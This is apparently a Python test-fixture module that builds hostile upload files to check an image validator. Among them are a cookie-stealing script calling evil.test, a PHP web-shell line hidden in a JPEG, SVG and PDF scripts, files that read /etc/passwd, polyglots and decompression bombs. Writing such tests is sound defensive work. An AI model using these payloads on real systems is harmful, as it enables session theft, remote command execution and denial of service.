"""Pictures that are also something else, that claim to be another, or that burst: what may be brought as an upload."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Final

from attrs import frozen
from PIL import Image

HTML: Final = b"<html><script>fetch('//evil.test/'+document.cookie)</script></html>"


@frozen(kw_only=True)
class Bait:
    """A file, and what becomes of it."""

    make: Callable[[], bytes]
    kept_as: str | None
    """Type under which it is kept; None where it is refused."""
    announced: str = "image/png"


def plain(kind: str = "PNG", size: tuple[int, int] = (32, 24)) -> bytes:
    """An honest picture."""
    written = io.BytesIO()
    Image.new("RGB", size, (200, 90, 30)).save(written, kind)
    return written.getvalue()


def chunk(name: bytes, data: bytes) -> bytes:
    """A chunk of a PNG."""
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def with_chunk(name: bytes, data: bytes) -> bytes:
    """A PNG with one more chunk behind its header."""
    good = plain()
    return good[:33] + chunk(name, data) + good[33:]


def archive() -> bytes:
    """A ZIP such as a JAR is."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as made:
        made.writestr("META-INF/MANIFEST.MF", "Main-Class: Evil\n")
    return written.getvalue()


def segment(marker: int, data: bytes) -> bytes:
    """A segment of a JPEG."""
    return bytes([0xFF, marker]) + struct.pack(">H", len(data) + 2) + data


def in_jpeg(*segments: bytes) -> bytes:
    """A JPEG with more segments behind its first mark."""
    good = plain("JPEG")
    return good[:2] + b"".join(segments) + good[2:]


def _bare_png(width: int, height: int, body: bytes) -> bytes:
    """A greyscale PNG of one bit a pixel whose packed body is given."""
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def _packed_zeros(times: int) -> bytes:
    """So many times ten megabytes, packed; quickly made, since a block of nothing but zeros can be repeated."""
    packer = zlib.compressobj(9)
    first = packer.compress(bytes(10_000_000)) + packer.flush(zlib.Z_SYNC_FLUSH)
    return first + (packer.compress(bytes(10_000_000)) + packer.flush(zlib.Z_FULL_FLUSH)) * times


def _endless_ifd() -> bytes:
    """EXIF whose directory names itself as the next one."""
    return b"Exif\0\0II*\0\x08\0\0\0" + struct.pack("<HHHIII", 1, 0x0112, 3, 1, 6, 8)


def _moving(kind: str) -> bytes:
    written = io.BytesIO()
    pictures = [Image.new("RGB", (32, 24), (n, 90, 30)) for n in range(200)]
    pictures[0].save(written, kind, save_all=True, append_images=pictures[1:])
    return written.getvalue()


def _tall_jpeg() -> bytes:
    """A JPEG that says it has 65,500 x 65,500 pixels."""
    good = bytearray(plain("JPEG"))
    at = good.index(b"\xff\xc0")
    good[at + 5 : at + 9] = struct.pack(">HH", 65_500, 65_500)
    return bytes(good)


BAITS: Final = {
    # Honest ones, though announced as another: they are kept as what they are.
    "png": Bait(make=plain, kept_as="image/png"),
    "jpeg as png": Bait(make=lambda: plain("JPEG"), kept_as="image/jpeg"),
    "webp as jpeg": Bait(make=lambda: plain("WEBP"), kept_as="image/webp", announced="image/jpeg"),
    # Two things in one: only ever handed on as a picture.
    "jpeg and zip": Bait(make=lambda: plain("JPEG") + archive(), kept_as="image/jpeg"),
    "png with html inside": Bait(make=lambda: with_chunk(b"tEXt", b"Comment\0" + HTML), kept_as="image/png"),
    "jpeg with php inside": Bait(
        make=lambda: in_jpeg(segment(0xFE, b"<?php system($_GET['c']); ?>")), kept_as="image/jpeg"
    ),
    # No picture of ours, whatever it says.
    "gif and jar": Bait(make=lambda: _moving("GIF") + archive(), kept_as=None),
    "svg with script": Bait(
        make=lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', kept_as=None
    ),
    "svg behind xml": Bait(make=lambda: b"<?xml version='1.0'?><svg/>", kept_as=None),
    "html": Bait(make=lambda: HTML, kept_as=None),
    "video with html": Bait(
        make=lambda: struct.pack(">I", 24) + b"ftypisom\0\0\2\0isommp41" + HTML, kept_as=None
    ),
    "playlist": Bait(make=lambda: b"#EXTM3U\n#EXTINF:2,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n", kept_as=None),
    "concat script": Bait(make=lambda: b"ffconcat version 1.0\nfile '/etc/passwd'\n", kept_as=None),
    "zip": Bait(make=archive, kept_as=None),
    "pdf": Bait(make=lambda: b"%PDF-1.7\n%\xe2\xe3\n1 0 obj<</JS(app.alert(1))>>endobj", kept_as=None),
    "postscript": Bait(make=lambda: b"%!PS\n(/etc/passwd) (r) file\n", kept_as=None),
    "imagemagick's": Bait(
        make=lambda: b"push graphic-context\nfill 'url(https://evil.test/)'\npop graphic-context",
        kept_as=None,
    ),
    "one byte": Bait(make=lambda: b"\x89", kept_as=None),
    "only how a png begins": Bait(make=lambda: plain()[:8], kept_as=None),
    "half a png": Bait(make=lambda: plain(size=(400, 300))[:200], kept_as=None),
    # Pictures that are broken on purpose.
    "png and html": Bait(make=lambda: plain() + HTML, kept_as=None),
    "jpeg with exif that turns in circles": Bait(
        make=lambda: in_jpeg(segment(0xE1, _endless_ifd())), kept_as=None
    ),
    # Small to send, and large once they are opened.
    "png of 90,000 x 90,000": Bait(
        make=lambda: _bare_png(90_000, 90_000, zlib.compress(bytes(1000))), kept_as=None
    ),
    "png of 40,000 x 40,000, all there": Bait(
        make=lambda: _bare_png(40_000, 40_000, zlib.compress(bytes(5001) * 40_000, 1)), kept_as=None
    ),
    "jpeg of 65,500 x 65,500": Bait(make=_tall_jpeg, kept_as=None),
    "png whose remark is a hundred megabytes": Bait(
        make=lambda: with_chunk(b"zTXt", b"Comment\0\0" + _packed_zeros(10)),
        kept_as="image/png",
    ),
    "png whose profile has more than the child's memory": Bait(
        make=lambda: with_chunk(b"iCCP", b"P\0\0" + _packed_zeros(220)), kept_as=None
    ),
    "jpeg with five megabytes of exif": Bait(
        make=lambda: in_jpeg(*[segment(0xE1, b"Exif\0\0" + bytes(65_000))] * 80), kept_as="image/jpeg"
    ),
    "a webp that moves": Bait(make=lambda: _moving("WEBP"), kept_as=None),
}
